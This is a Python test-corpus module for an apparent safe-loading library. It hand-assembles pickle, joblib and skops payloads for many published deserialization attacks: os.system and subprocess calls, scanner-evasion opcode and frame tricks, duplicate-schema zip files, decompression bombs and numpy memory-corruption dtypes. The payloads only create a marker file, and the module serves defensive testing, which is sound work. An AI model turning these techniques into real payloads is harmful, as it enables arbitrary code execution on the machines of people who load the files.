"""The attack corpus behind :mod:`safeload.testing`: an opcode assembler, payload builders and
the table of published techniques (data, not API; import from :mod:`safeload.testing`).

Every payload is assembled at run time from raw pickle opcodes (skops cases edit a real skops
file's schema) and its only effect is to create the marker file whose path the caller passes.
Nothing here runs a payload.
"""

from __future__ import annotations

import bz2
import gzip
import io
import json
import lzma
import marshal
import os
import pathlib
import shlex
import shutil
import sys
import types
import warnings
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from safeload.exceptions import (
    LimitExceededError,
    MalformedArtifactError,
    SafeloadError,
    UnsafeStateError,
    UntrustedTypeError,
)

__all__ = ["CHECKS", "AttackCase", "attack_corpus"]

#: What :func:`run_isolated` can do with a case: run the plain (unsafe) loader it targets, run
#: a loader (default :func:`safeload.load_unsigned`), sign it with a fresh key and run
#: :func:`safeload.load`, or :func:`safeload.scan` it.
CHECKS = ("plain", "loader", "signed", "scan")

_SUFFIX = {
    "pickle": ".pkl",
    "joblib": ".joblib",
    "joblib-zlib": ".joblib.z",
    "joblib-gzip": ".joblib.gz",
    "joblib-bz2": ".joblib.bz2",
    "joblib-xz": ".joblib.xz",
    "joblib-lzma": ".joblib.lzma",
    "skops": ".skops",
}
_PLAIN_LOADERS = ("pickle", "joblib", "pickle-twice", "skops-trusted", "none")
#: The published dotted-name attack walks from pathlib to os. Python 3.13's pathlib (a package
#: now) no longer imports os at its top level, so there the same walk starts from shutil.
_OS_VIA = "pathlib" if hasattr(pathlib, "os") else "shutil"


@dataclass(frozen=True)
class AttackCase:
    """One published technique, as a payload builder plus what should happen to it."""

    #: Unique slug.
    name: str
    #: One line: what the payload does and why a loader or scanner might miss it.
    technique: str
    #: Where it was published (advisory, CVE, issue), as listed in the threat model.
    reference: str
    #: ``pickle``, ``joblib``, ``joblib-zlib``/``-gzip``/``-bz2``/``-xz``/``-lzma`` or ``skops``.
    container: str
    #: Given an absolute marker path, returns the file's bytes (may write helper files next to
    #: the marker). Running the payload creates the marker and does nothing else.
    build: Callable[[str], bytes]
    #: The unsafe loader the payload targets: ``pickle`` (``pickle.loads``), ``joblib``
    #: (``joblib.load`` on the file), ``pickle-twice`` (two ``pickle.load`` calls on one file),
    #: ``skops-trusted`` (``skops.io.loads`` trusting every type skops lists), or ``none``.
    plain_loader: str
    #: What safeload raises for it.
    expect: type[SafeloadError]
    #: True when the plain loader really creates the marker on this platform.
    executes: bool
    #: Lowered :class:`~safeload.Limits` fields for the case (decompression bombs).
    limits: dict[str, int] | None = field(default=None, hash=False)
    #: For use-time cases: the public method that, called on the loaded object with
    #: ``numpy.zeros(USE_INPUT_SHAPE)``, runs the payload. Loading alone runs nothing.
    use: str | None = None

    def __post_init__(self) -> None:
        if self.container not in _SUFFIX:
            raise ValueError(f"unknown container {self.container!r}")
        if self.plain_loader not in _PLAIN_LOADERS:
            raise ValueError(f"unknown plain loader {self.plain_loader!r}")

    @property
    def format(self) -> str:
        """The safeload format of the container: ``pickle``, ``joblib`` or ``skops``."""
        return self.container.split("-")[0]

    @property
    def filename(self) -> str:
        """A file name whose extension matches the container."""
        return "payload" + _SUFFIX[self.container]


# --- the opcode assembler -------------------------------------------------------------------


class _Asm:
    """A tiny pickle assembler: each method appends opcodes; :meth:`value` returns the stream.

    ``push`` writes a constant with the opcodes a pickler of ``protocol`` would use, so every
    payload is spelled out opcode by opcode without ever calling a pickler.
    """

    def __init__(self, protocol: int = 0) -> None:
        self.protocol = protocol
        self.out = bytearray()
        if protocol >= 2:
            self.op(b"\x80", bytes([protocol]))

    def op(self, code: bytes, arg: bytes = b"") -> _Asm:
        self.out += code + arg
        return self

    def value(self, *, frame: bool = False) -> bytes:
        """The stream; with ``frame``, everything after PROTO goes into one honest FRAME."""
        if not frame:
            return bytes(self.out)
        head, body = self.out[:2], self.out[2:]
        return bytes(head + b"\x95" + len(body).to_bytes(8, "little") + body)

    # structure
    def mark(self) -> _Asm:
        return self.op(b"(")

    def stop(self) -> _Asm:
        return self.op(b".")

    def pop(self) -> _Asm:
        return self.op(b"0")

    # names and calls
    def global_(self, module: str, name: str) -> _Asm:
        return self.op(b"c", f"{module}\n{name}\n".encode())

    def inst(self, module: str, name: str) -> _Asm:
        return self.op(b"i", f"{module}\n{name}\n".encode())

    def stack_global(self, module: str, name: str) -> _Asm:
        return self.push(module).push(name).op(b"\x93")

    def name(self, module: str, name: str) -> _Asm:
        """The global the way a pickler of this protocol writes it."""
        if self.protocol >= 4:
            return self.stack_global(module, name)
        return self.global_(module, name)

    def reduce(self) -> _Asm:
        return self.op(b"R")

    def build(self) -> _Asm:
        return self.op(b"b")

    def call(self, module: str, name: str, *args: object) -> _Asm:
        """``module.name(*args)``: the global, an argument tuple, REDUCE."""
        return self.name(module, name).push(tuple(args)).reduce()

    def apply(self, *args: object) -> _Asm:
        """Call whatever is on top of the stack (a computed callable) with ``args``."""
        return self.push(tuple(args)).reduce()

    # memo
    def memoize(self) -> _Asm:
        return self.op(b"\x94")

    def binget(self, index: int) -> _Asm:
        return self.op(b"h", bytes([index]))

    def long_binput(self, index: int) -> _Asm:
        return self.op(b"r", index.to_bytes(4, "little"))

    # constants
    def push(self, obj: object) -> _Asm:
        p = self.protocol
        if obj is None:
            return self.op(b"N")
        if isinstance(obj, bool):
            if p >= 2:
                return self.op(b"\x88" if obj else b"\x89")
            return self.op(b"I", b"01\n" if obj else b"00\n")
        if isinstance(obj, int):
            if p == 0:
                return self.op(b"I", f"{obj}\n".encode())
            if 0 <= obj < 256:
                return self.op(b"K", bytes([obj]))
            if -(2**31) <= obj < 2**31:
                return self.op(b"J", obj.to_bytes(4, "little", signed=True))
            raw = obj.to_bytes((obj.bit_length() + 8) // 8, "little", signed=True)
            return self.op(b"\x8a", bytes([len(raw)]) + raw)
        if isinstance(obj, str):
            return self._str(obj)
        if isinstance(obj, bytes):
            if p >= 3:
                if len(obj) < 256:
                    return self.op(b"C", bytes([len(obj)]) + obj)
                return self.op(b"B", len(obj).to_bytes(4, "little") + obj)
            # what protocols 0-2 write for bytes: _codecs.encode(text, 'latin1')
            return self.call("_codecs", "encode", obj.decode("latin-1"), "latin1")
        if isinstance(obj, tuple):
            if p >= 2 and len(obj) <= 3:
                for item in obj:
                    self.push(item)
                return self.op((b")", b"\x85", b"\x86", b"\x87")[len(obj)])
            self.mark()
            for item in obj:
                self.push(item)
            return self.op(b"t")
        if isinstance(obj, list):
            if p == 0:
                self.mark()
                for item in obj:
                    self.push(item)
                return self.op(b"l")
            self.op(b"]")
            if obj:
                self.mark()
                for item in obj:
                    self.push(item)
                self.op(b"e")
            return self
        if isinstance(obj, dict):
            if p == 0:
                self.op(b"(d")
                for k, v in obj.items():
                    self.push(k).push(v).op(b"s")
                return self
            self.op(b"}")
            if obj:
                self.mark()
                for k, v in obj.items():
                    self.push(k).push(v)
                self.op(b"u")
            return self
        if isinstance(obj, _Code):
            return obj.emit(self)
        raise TypeError(f"cannot push {type(obj).__name__}")

    def _str(self, s: str) -> _Asm:
        if self.protocol == 0:
            text = s
            for ch, esc in (("\\", "\\u005c"), ("\0", "\\u0000"), ("\n", "\\u000a")):
                text = text.replace(ch, esc)
            return self.op(b"V", text.encode("raw-unicode-escape") + b"\n")
        raw = s.encode("utf-8", "surrogatepass")
        if self.protocol >= 4 and len(raw) < 256:
            return self.op(b"\x8c", bytes([len(raw)]) + raw)
        return self.op(b"X", len(raw).to_bytes(4, "little") + raw)


class _Code:
    """A sub-expression to push in the middle of an argument list."""

    def __init__(self, emit: Callable[[_Asm], _Asm]) -> None:
        self.emit = emit


def _g(module: str, name: str) -> _Code:
    """A global as a value (for example a function passed as an argument)."""
    return _Code(lambda a: a.name(module, name))


def _c(module: str, name: str, *args: object) -> _Code:
    """A call as a value."""
    return _Code(lambda a: a.call(module, name, *args))


# --- payload programs (harmless: each only creates the marker) ------------------------------


def _py(m: str) -> str:
    """Python source that creates the marker."""
    return f"open({m!r}, 'w').close()"


def _sh(m: str) -> str:
    """A shell command that creates the marker."""
    return f"touch {shlex.quote(m)}"


def _argv(m: str) -> list[str]:
    return ["touch", m]


def _lambda_code(m: str, nargs: int) -> bytes:
    """A marshalled code object of ``lambda a0, ...: <create marker>`` (compiled, not run)."""
    params = ", ".join(f"a{i}" for i in range(nargs))
    module = compile(f"lambda {params}: {_py(m)}", "<payload>", "eval")
    code = next(c for c in module.co_consts if isinstance(c, types.CodeType))
    return marshal.dumps(code)


def _side(m: str, suffix: str, data: bytes) -> str:
    """Write a helper file next to the marker; return its path."""
    path = m + suffix
    Path(path).write_bytes(data)
    return path


def _simple(protocol: int, module: str, name: str, *args: object, frame: bool = False) -> bytes:
    return _Asm(protocol).call(module, name, *args).stop().value(frame=frame)


def _inner(m: str) -> bytes:
    """A second, ordinary payload (for loaders that load another file or bytes)."""
    return _simple(2, "posix", "system", _sh(m))


# --- builders: globals that run code ---------------------------------------------------------


def _os_system_p0(m: str) -> bytes:
    return b"cos\nsystem\n(S" + repr(_sh(m)).encode() + b"\ntR."


def _dotted_method(
    module: str,
    cls: str,
    method: str,
    ctor: Callable[[str], tuple[object, ...]],
    args: Callable[[str], tuple[object, ...]],
) -> Callable[[str], bytes]:
    """``module.cls.method(module.cls(*ctor(m)), *args(m))`` through a dotted protocol-4 name
    (the method is looked up on the class, so no getattr on a computed object is needed)."""

    def build(m: str) -> bytes:
        asm = _Asm(4).stack_global(module, f"{cls}.{method}")
        asm.push((_c(module, cls, *ctor(m)), *args(m)))
        return asm.reduce().stop().value(frame=True)

    return build


def _no_args(m: str) -> tuple[object, ...]:
    return ()


def _py_arg(m: str) -> tuple[object, ...]:
    return (_py(m),)


def _memo_stack_global(m: str) -> bytes:
    a = _Asm(4)
    a.push("posix").memoize().pop().push("system").memoize().pop()
    a.push("builtins").push("len").op(b"00")  # decoys right before STACK_GLOBAL
    a.binget(0).binget(1).op(b"\x93").push((_sh(m),)).reduce().stop()
    return a.value(frame=True)


def _build_on_module(m: str) -> bytes:
    a = _Asm(2).global_("json", "decoder")
    a.push({"planted_probe": _g("posix", "system")}).build().pop()
    return a.call("json.decoder", "planted_probe", _sh(m)).stop().value()


def _build_on_function(m: str) -> bytes:
    code = _c("marshal", "loads", _lambda_code(m, 3))
    a = _Asm(3).global_("colorsys", "rgb_to_yiq").push((None, {"__code__": code})).build().pop()
    return a.call("colorsys", "rgb_to_yiq", 1, 2, 3).stop().value()


def _build_on_class(m: str) -> bytes:
    a = _Asm(2).global_("string", "Template")
    a.push((None, {"__init__": _g("posix", "system")})).build().pop()
    return a.call("string", "Template", _sh(m)).stop().value()


def _getattr_import(m: str) -> bytes:
    a = _Asm(2).call("builtins", "getattr", _c("builtins", "__import__", "os"), "system")
    return a.apply(_sh(m)).stop().value()


def _pydoc_locate(m: str) -> bytes:
    return _Asm(2).call("pydoc", "locate", "os.system").apply(_sh(m)).stop().value()


def _methodcaller(m: str) -> bytes:
    a = _Asm(2).call("operator", "methodcaller", "system", _sh(m))
    return a.apply(_c("importlib", "import_module", "os")).stop().value()


def _attrgetter(m: str) -> bytes:
    a = _Asm(2).call("operator", "attrgetter", "system")
    return a.apply(_c("builtins", "__import__", "os")).apply(_sh(m)).stop().value()


def _itemgetter_sys_modules(m: str) -> bytes:
    a = _Asm(2).call("_operator", "methodcaller", "system", _sh(m))
    os_module = _Code(lambda x: x.call("_operator", "itemgetter", "os").apply(_g("sys", "modules")))
    return a.apply(os_module).stop().value()


def _resolve_name(m: str) -> bytes:
    return _Asm(2).call("pkgutil", "resolve_name", "os:system").apply(_sh(m)).stop().value()


def _dict_get_pivot(m: str) -> bytes:
    a = _Asm(4).stack_global("builtins", "dict.get")
    a.push((_g("numpy", "__builtins__"), "exec")).reduce()
    return a.apply(_py(m)).stop().value(frame=True)


def _marshal_function(m: str) -> bytes:
    a = _Asm(3).call("types", "FunctionType", _c("marshal", "loads", _lambda_code(m, 0)), {})
    return a.apply().stop().value()


def _ctypes_libc(m: str) -> bytes:
    a = _Asm(3).call("builtins", "getattr", _c("ctypes", "CDLL", None), "system")
    return a.apply(_sh(m).encode()).stop().value()


def _newobj_partial(m: str) -> bytes:
    a = _Asm(2).global_("functools", "partial").push((_g("posix", "system"), _sh(m)))
    return a.op(b"\x81").apply().stop().value()


def _newobj_ex_partial(m: str) -> bytes:
    a = _Asm(4).stack_global("functools", "partial")
    a.push((_g("subprocess", "run"), _argv(m))).push({"check": False}).op(b"\x92")
    return a.apply().stop().value(frame=True)


def _inst_pop(m: str) -> bytes:
    a = _Asm(0).mark().push(_sh(m)).inst("os", "system").pop()
    return a.push(None).stop().value()


def _obj_pop(m: str) -> bytes:
    a = _Asm(1).mark().global_("posix", "system").push(_sh(m)).op(b"o").pop()
    return a.push(None).stop().value()


def _inst_rot13_names(m: str) -> bytes:
    # INST of the allowlisted _codecs.encode turns rot13 text into "posix" / "system" on the
    # stack, right above two harmless constants; STACK_GLOBAL takes whatever is on top.
    a = _Asm(4).push("builtins").push("list")
    a.mark().push("cbfvk").push("rot13").inst("_codecs", "encode")
    a.mark().push("flfgrz").push("rot13").inst("_codecs", "encode")
    return a.op(b"\x93").push((_sh(m),)).reduce().stop().value()


def _inst_build_on_class(m: str) -> bytes:
    # INST builtins.tuple makes the BUILD state (None, {attr: value}); the object under it is
    # an allowlisted class, so BUILD setattr()s on the class itself (a process-wide change).
    a = _Asm(2).push({}).global_("joblib.numpy_pickle", "NumpyArrayWrapper")
    a.mark().push([None, {"safeload_corpus_planted": 1}]).inst("builtins", "tuple")
    return a.build().stop().value()


def _reconstructor_popen(m: str) -> bytes:
    popen = _g("subprocess", "Popen")
    return _Asm(2).call("copyreg", "_reconstructor", popen, popen, _argv(m)).stop().value()


def _map_into_list(m: str) -> bytes:
    lazy = _c("builtins", "map", _g("posix", "system"), [_sh(m)])
    return _Asm(2).call("builtins", "list", lazy).stop().value()


def _nested_pickle(m: str) -> bytes:
    return _simple(3, "pickle", "loads", _inner(m))


def _nested_c_pickle_codecs(m: str) -> bytes:
    # protocol 2: the bytes are rebuilt by the allowlisted _codecs.encode before _pickle.loads
    return _simple(2, "_pickle", "loads", _inner(m))


def _runpy_run_path(m: str) -> bytes:
    return _simple(2, "runpy", "run_path", _side(m, ".script.py", _py(m).encode()))


def _joblib_load_side(m: str) -> bytes:
    return _simple(2, "joblib", "load", _side(m, ".inner.joblib", _inner(m)))


def _numpy_load_side(m: str) -> bytes:
    return _simple(2, "numpy", "load", _side(m, ".inner.npy", _inner(m)), None, True)


def _spawnv(m: str) -> bytes:
    touch = os.fsencode(shutil.which("touch") or "/usr/bin/touch")
    return _simple(2, "multiprocessing.util", "spawnv_passfds", touch, _argv(m), [])


def _urlretrieve(m: str) -> bytes:
    src = _side(m, ".source.txt", b"downloaded\n")
    return _simple(2, "urllib.request", "urlretrieve", Path(src).as_uri(), m)


# --- builders: opcode and stream tricks -------------------------------------------------------


def _ext(opcode: bytes, code: int, width: int) -> Callable[[str], bytes]:
    def build(m: str) -> bytes:
        return _Asm(2).op(opcode, code.to_bytes(width, "little")).apply(_sh(m)).stop().value()

    return build


def _persid(m: str) -> bytes:
    return _Asm(0).op(b"P", b"os.system\n").push((_sh(m),)).reduce().stop().value()


def _binpersid(m: str) -> bytes:
    return _Asm(2).push("os.system").op(b"Q").apply(_sh(m)).stop().value()


def _next_buffer(m: str) -> bytes:
    return _Asm(5).op(b"\x97").op(b"\x98").op(b"0").call("posix", "system", _sh(m)).stop().value()


def _invalid_after_call(m: str) -> bytes:
    return _Asm(2).call("posix", "system", _sh(m)).op(b"\xff").value()


def _truncated_after_call(m: str) -> bytes:
    return _Asm(2).call("posix", "system", _sh(m)).value()


def _second_pickle(m: str) -> bytes:
    return _Asm(2).push(1).stop().value() + _inner(m)


def _frame_short(m: str) -> bytes:
    body = _Asm(4).call("posix", "system", _sh(m)).stop().value()[2:]
    return b"\x80\x04\x95" + (5).to_bytes(8, "little") + body


def _frame_nested(m: str) -> bytes:
    a = _Asm(4).call("posix", "system", _sh(m)).stop().value()[2:]
    cut = len(_Asm(4).push("posix").value()) - 2  # an opcode boundary inside the outer frame
    inner = a[cut:]
    outer = a[:cut] + b"\x95" + len(inner).to_bytes(8, "little") + inner
    return b"\x80\x04\x95" + len(outer).to_bytes(8, "little") + outer


def _frame_overlong(m: str) -> bytes:
    body = _Asm(4).call("posix", "system", _sh(m)).stop().value()[2:]
    return b"\x80\x04\x95" + (2**40).to_bytes(8, "little") + body


# --- builders: numpy values and joblib containers ---------------------------------------------


def _dtype(typestr: str, state: tuple[object, ...]) -> _Code:
    """``numpy.dtype(typestr, False, True)`` + BUILD ``state``, as numpy pickles a dtype."""
    return _Code(lambda x: x.call("numpy", "dtype", typestr, False, True).push(state).build())


_NATIVE = "<" if sys.byteorder == "little" else ">"


def _plain_dtype(dt: Any) -> _Code:
    """A non-structured dtype (a ``numpy.dtype`` object read for its layout only)."""
    kind = f"{dt.kind}{dt.itemsize}"
    return _dtype(
        kind, (3, dt.byteorder if dt.byteorder != "=" else _NATIVE, None, None, None, -1, -1, 0)
    )


def _ndarray(dtype: _Code, shape: tuple[int, ...], raw: bytes | list[object]) -> _Code:
    """``numpy._core.multiarray._reconstruct`` + BUILD, as numpy pickles an array."""
    return _Code(
        lambda x: (
            x.call("numpy._core.multiarray", "_reconstruct", _g("numpy", "ndarray"), (0,), b"b")
            .push((1, shape, dtype, False, raw))
            .build()
        )
    )


def _wrapper(a: _Asm, dtype: str, shape: tuple[int, ...], elsize: int, flags: int) -> _Asm:
    """joblib's NumpyArrayWrapper for an array whose raw data follows the BUILD."""
    a.stack_global("joblib.numpy_pickle", "NumpyArrayWrapper").push(()).op(b"\x81")
    byteorder = "|" if dtype.startswith("O") else "<"
    dt = _dtype(dtype, (3, byteorder, None, None, None, elsize, -1, flags))
    state = {
        "subclass": _g("numpy", "ndarray"),
        "shape": shape,
        "order": "C",
        "dtype": dt,
        "allow_mmap": False,
        "numpy_array_alignment_bytes": 16,
    }
    return a.push(state).build()


def _after_array(m: str) -> bytes:
    a = _Asm(4).op(b"]").mark()
    _wrapper(a, "i8", (2,), -1, 0)
    a.op(b"\x00" + (7).to_bytes(8, "little") + (9).to_bytes(8, "little"))  # pad 0, two int64
    return a.call("posix", "system", _sh(m)).op(b"e").stop().value()


def _object_array(m: str) -> bytes:
    a = _Asm(4)
    _wrapper(a, "O8", (1,), -1, 63)
    return a.value() + _inner(m) + b"."


def _ndarray_wrapper(m: str) -> bytes:
    side = _side(m, ".inner.pkl", _inner(m))
    a = _Asm(2).global_("joblib.numpy_pickle_compat", "NDArrayWrapper").push(()).op(b"\x81")
    state = {"filename": side, "subclass": _g("numpy", "ndarray"), "allow_mmap": False}
    return a.push(state).build().stop().value()


def _compressed(method: str, payload: Callable[[str], bytes]) -> Callable[[str], bytes]:
    def build(m: str) -> bytes:
        data = payload(m)
        if method == "zlib":
            return zlib.compress(data, 3)
        if method == "gzip":
            return gzip.compress(data, 3, mtime=0)
        if method == "bz2":
            return bz2.compress(data, 3)
        fmt = lzma.FORMAT_XZ if method == "xz" else lzma.FORMAT_ALONE
        return lzma.compress(data, format=fmt)

    return build


def _bomb(method: str) -> Callable[[str], bytes]:
    def build(m: str) -> bytes:
        data = b"\x80\x04]" + b"\x00" * (16 * 2**20)
        return zlib.compress(data, 9) if method == "zlib" else gzip.compress(data, 9, mtime=0)

    return build


def _short_object_array(m: str) -> bytes:
    """An object ndarray whose BUILD state lists fewer items than its shape (allowlisted names
    only); numpy leaves the remaining object pointers uninitialized."""
    dtype = _dtype("O8", (3, "|", None, None, None, -1, -1, 63))
    return _Asm(2).push(_ndarray(dtype, (100_000,), [1, "x"])).stop().value()


def _joblib_short_object_array(m: str) -> bytes:
    a = _Asm(4)
    _wrapper(a, "O8", (100_000,), -1, 63)
    return a.value() + _short_object_array(m) + b"."


def _bad_field_dtype(m: str) -> bytes:
    # a structured dtype whose field "b" names the string "radius" instead of a dtype
    i8 = _dtype("i8", (3, "<", None, None, None, -1, -1, 0))
    fields = {"a": (i8, 0), "b": ("radius", 8)}
    bad = _dtype("V16", (3, "|", None, ("a", "b"), fields, 16, 1, 16))
    return _Asm(2).push(_ndarray(bad, (2,), b"\x00" * 32)).stop().value()


def _object_dtype_flags(m: str) -> bytes:
    # the object dtype's flags without NPY_LIST_PICKLE: numpy takes the state's list as raw data
    dtype = _dtype("O8", (3, "|", None, None, None, -1, -1, 3))
    return _Asm(2).push(_ndarray(dtype, (2,), [1, "x"])).stop().value()


def _octal_itemsize_dtype(m: str) -> bytes:
    """A structured dtype whose itemsize is written ``I07777777``: read in base 10 that is
    7,777,777, room for the field at offset 7,000,000; the C unpickler reads it with
    ``strtol(..., 0)`` as octal, 2,097,151, and the field runs far past every item."""
    u1 = _dtype("u1", (3, "|", None, None, None, -1, -1, 0))
    itemsize = _Code(lambda a: a.op(b"I", b"07777777\n"))
    state = (3, "|", None, ("a",), {"a": (u1, 7_000_000)}, itemsize, 1, 16)
    return _Asm(0).push(_dtype("V7777777", state)).stop().value()


_TUPLE = _g("builtins", "tuple")


def _hidden(cls: tuple[str, str], base: tuple[str, str], state: object) -> _Code:
    """``copyreg._reconstructor(*T)`` where ``T = copyreg._reconstructor(tuple, tuple, (cls,
    base, state))`` is the tuple ``(cls, base, state)`` made by a call (the issue's
    ``builtins.tuple([...])`` spelling, with the call a literal tuple needs no list for): so
    ``base.__new__(cls, state)`` with an argument tuple that a pass which only knows literal
    calls cannot see into."""
    return _Code(
        lambda a: (
            a.name("copyreg", "_reconstructor")
            .call("copyreg", "_reconstructor", _TUPLE, _TUPLE, (_g(*cls), _g(*base), state))
            .reduce()
        )
    )


def _hidden_dtype_object_array(m: str) -> bytes:
    """An object array of shape (200000,) with an empty item list, whose dtype ``O`` is made by
    ``copyreg._reconstructor(*tuple([numpy.dtype, numpy.dtype, "O"]))``: a pass that only
    recognises a literal ``numpy.dtype(...)`` call skips the object-array check, and numpy
    reads 200,000 pointers that were never written."""
    dtype = _hidden(("numpy", "dtype"), ("numpy", "dtype"), "O")
    return _Asm(2).push(_ndarray(dtype, (200_000,), [])).stop().value()


def _hidden_joblib_wrapper(m: str) -> bytes:
    """joblib's NumpyArrayWrapper made by ``copyreg._reconstructor(*tuple([...]))``. joblib
    treats it as an array header and reads the object array that follows with a fresh
    unpickler (its own memo); a pass that does not recognise the wrapper keeps reading those
    bytes as part of the outer stream, where ``BINGET 0, BINGET 1`` are ``numpy``, ``dtype``.
    In joblib's fresh memo they are ``posix``, ``system``."""
    a = _Asm(4).push("numpy").memoize().push("dtype").memoize().op(b"\x93").pop()
    wrapper = _hidden(("joblib.numpy_pickle", "NumpyArrayWrapper"), ("builtins", "object"), None)
    a.mark().push(wrapper)
    dt = _dtype("O8", (3, "|", None, None, None, -1, -1, 63))
    state = {
        "shape": (1,),
        "order": "C",
        "dtype": dt,
        "allow_mmap": False,
    }
    a.push(state).build()
    # the nested pickle as joblib reads it; to the outer stream, more of the same tuple
    a.push("posix").memoize().pop().push("system").memoize().pop()
    a.binget(0).binget(1).op(b"\x93").push((_sh(m),)).reduce()
    return a.op(b"t").stop().value()


def _struct_v8(field: str, offset: int) -> tuple[object, ...]:
    """The state of a structured ``V8`` dtype with one field ``a`` of ``field`` at ``offset``."""
    dt = _dtype(field, (3, "|" if field == "u1" else _NATIVE, None, None, None, -1, -1, 0))
    return (3, "|", None, ("a",), {"a": (dt, offset)}, 8, 1, 16)


def _memo_dtype_rebuilt(m: str) -> bytes:
    """A structured dtype with an honest state, then fetched again from the memo and given a
    second BUILD: an 8-byte field at offset 2 of an 8-byte item. A pass that caches what it
    checked the first time never looks at the second state."""
    a = _Asm(2).call("numpy", "dtype", "V8", False, True).op(b"q", b"\x00")
    a.push(_struct_v8("u1", 0)).build().pop()
    return a.binget(0).push(_struct_v8("i8", 2)).build().stop().value()


def _dtype_used_then_built(m: str) -> bytes:
    """A ``V8`` dtype with no state is used for an array (a pass that caches the dtype it
    denotes caches plain ``V8``), then given a BUILD that adds an 8-byte field at offset 2: the
    array's one item now has a field running 2 bytes past it."""
    a = _Asm(2).call("numpy", "dtype", "V8", False, True).op(b"q", b"\x00").pop()
    array = _Code(
        lambda x: (
            x.call("numpy._core.multiarray", "_reconstruct", _g("numpy", "ndarray"), (0,), b"b")
            .push((1, (1,), _Code(lambda y: y.binget(0)), False, b"\x00" * 8))
            .build()
        )
    )
    a.push(array).binget(0).push(_struct_v8("i8", 2)).build().pop()
    return a.stop().value()


def _memo_dag_shape(m: str, steps: int = 27) -> bytes:
    """``T0 = (1,)``, ``Tk = (Tk-1, Tk-1)`` through the memo, ``T27`` as an array's shape: a few
    hundred bytes that a fold without memoisation expands into 2**28 tuples."""
    a = _Asm(2).push(1).op(b"\x85").op(b"q", b"\x00").pop()
    for k in range(1, steps + 1):
        a.binget(k - 1).binget(k - 1).op(b"\x86").op(b"q", bytes([k])).pop()
    f8 = _dtype("f8", (3, "<", None, None, None, -1, -1, 0))
    shape = _Code(lambda x: x.binget(steps))
    return a.push(_ndarray(f8, shape, b"\x00" * 8)).stop().value()  # type: ignore[arg-type]


def _crafted_tree(m: str) -> bytes:
    """A 3-node sklearn Tree whose root's right child index points past the node array."""
    import numpy as np
    from sklearn.tree._tree import NODE_DTYPE

    _cls, _args, (ver, order, sub, names, fields, size, align, flags) = NODE_DTYPE.__reduce__()
    node_fields = {n: (_plain_dtype(dt), off) for n, (dt, off) in fields.items()}
    node_dtype = _dtype(f"V{size}", (ver, order, sub, names, node_fields, size, align, flags))
    nodes = np.zeros(3, NODE_DTYPE)
    nodes["left_child"] = [1, -1, -1]
    nodes["right_child"] = [7, -1, -1]  # out of range: predict would read past the array
    nodes["feature"] = [0, -2, -2]
    nodes["n_node_samples"] = 1
    values = np.ones((3, 1, 2))
    f8 = _plain_dtype(values.dtype)
    i8 = _plain_dtype(np.dtype(np.intp))
    n_classes = _ndarray(i8, (1,), np.array([2], np.intp).tobytes())
    state = {
        "max_depth": 1,
        "node_count": 3,
        "nodes": _ndarray(node_dtype, (3,), nodes.tobytes()),
        "values": _ndarray(f8, (3, 1, 2), values.tobytes()),
    }
    a = _Asm(2).call("sklearn.tree._tree", "Tree", 1, n_classes, 1)
    return a.push(state).build().stop().value()


def _array_claim(m: str) -> bytes:
    a = _Asm(4)
    _wrapper(a, "f8", (2**31, 2**31), -1, 0)
    return a.value() + b"\x00" + b"\x00" * 64 + b"."


# --- builders: skops ----------------------------------------------------------------------------


class _Skops:
    """Hand-written skops schema nodes, spliced into a real skops file's ``schema.json``."""

    def __init__(self) -> None:
        self.next_id = 7_000_000

    def _node(self, loader: str, module: str, cls: str, **extra: Any) -> dict[str, Any]:
        self.next_id += 1
        node: dict[str, Any] = {"__class__": cls, "__module__": module, "__loader__": loader}
        node.update(extra)
        node["__id__"] = self.next_id
        return node

    def json(self, value: object) -> dict[str, Any]:
        cls = type(value).__name__
        return self._node("JsonNode", "builtins", cls, content=json.dumps(value), is_json=True)

    def tuple(self, *items: dict[str, Any]) -> dict[str, Any]:
        return self._node("TupleNode", "builtins", "tuple", content=list(items))

    def list(
        self, *items: dict[str, Any], module: str = "builtins", cls: str = "list"
    ) -> dict[str, Any]:
        return self._node("ListNode", module, cls, content=list(items))

    def call(self, module: str, name: str, *args: dict[str, Any]) -> dict[str, Any]:
        """skops' ConstructorFromReduceNode: ``module.name(*args)``."""
        return self._node("ConstructorFromReduceNode", module, name, content=self.tuple(*args))

    def operator(self, kind: str, *attrs: dict[str, Any]) -> dict[str, Any]:
        return self._node("OperatorFuncNode", "operator", kind, attrs=self.tuple(*attrs))

    def method(self, obj: dict[str, Any], func: str) -> dict[str, Any]:
        content = {"func": func, "obj": obj}
        return self._node("MethodNode", obj["__module__"], obj["__class__"], content=content)

    def map_into_list(self, func: dict[str, Any], *items: dict[str, Any]) -> dict[str, Any]:
        """``list(map(func, [items]))``: the only call skops makes is the constructor."""
        return self.call("builtins", "list", self.call("builtins", "map", func, self.list(*items)))


def _skops_file(
    payload: Callable[[_Skops, str], dict[str, Any]], *, duplicate: bool = False
) -> Callable[[str], bytes]:
    def build(m: str) -> bytes:
        import skops.io

        base = skops.io.dumps({"model": "placeholder"})
        src = zipfile.ZipFile(io.BytesIO(base))
        schema = json.loads(src.read("schema.json"))
        benign = json.dumps(schema).encode()
        schema["content"]["model"] = payload(_Skops(), m)
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
            for info in src.infolist():
                if info.filename != "schema.json":
                    dst.writestr(info.filename, src.read(info))
            if duplicate:  # the first copy is what a scanner reading the first entry sees
                dst.writestr("schema.json", benign)
            with warnings.catch_warnings():
                warnings.simplefilter("ignore", UserWarning)  # the duplicate name is the point
                dst.writestr("schema.json", json.dumps(schema))
        return out.getvalue()

    return build


def _skops_reduce(s: _Skops, m: str) -> dict[str, Any]:
    return s.call("posix", "system", s.json(_sh(m)))


def _skops_list_callable(s: _Skops, m: str) -> dict[str, Any]:
    return s.list(*(s.json(x) for x in _argv(m)), module="subprocess", cls="call")


def _skops_methodcaller(s: _Skops, m: str) -> dict[str, Any]:
    caller = s.operator("methodcaller", s.json("system"), s.json(_sh(m)))
    return s.map_into_list(caller, s.call("importlib", "import_module", s.json("os")))


def _skops_method(s: _Skops, m: str) -> dict[str, Any]:
    bound = s.method(s.call("code", "InteractiveInterpreter"), "runsource")
    return s.map_into_list(bound, s.json(_py(m)))


def _skops_zip_bomb(m: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        dst.writestr("schema.json", b"{}")
        dst.writestr("big.bin", b"\x00" * (16 * 2**20))
    return out.getvalue()


